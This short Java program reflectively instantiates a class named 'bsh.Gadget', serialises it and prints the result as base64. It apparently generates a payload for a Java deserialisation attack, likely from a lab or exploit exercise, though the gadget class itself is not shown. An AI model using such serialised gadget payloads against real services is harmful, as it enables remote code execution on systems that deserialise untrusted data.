import java.io.ByteArrayOutputStream;
import java.io.ObjectOutputStream;
import java.util.Base64;

/** Prints a serialised object of the gadget class. */
public final class Serialize {
    public static void main(String[] arguments) throws Exception {
        var bytes = new ByteArrayOutputStream();
        try (var out = new ObjectOutputStream(bytes)) {
            out.writeObject(Class.forName("bsh.Gadget").getConstructor().newInstance());
        }
        System.out.print(Base64.getEncoder().encodeToString(bytes.toByteArray()));
    }
}
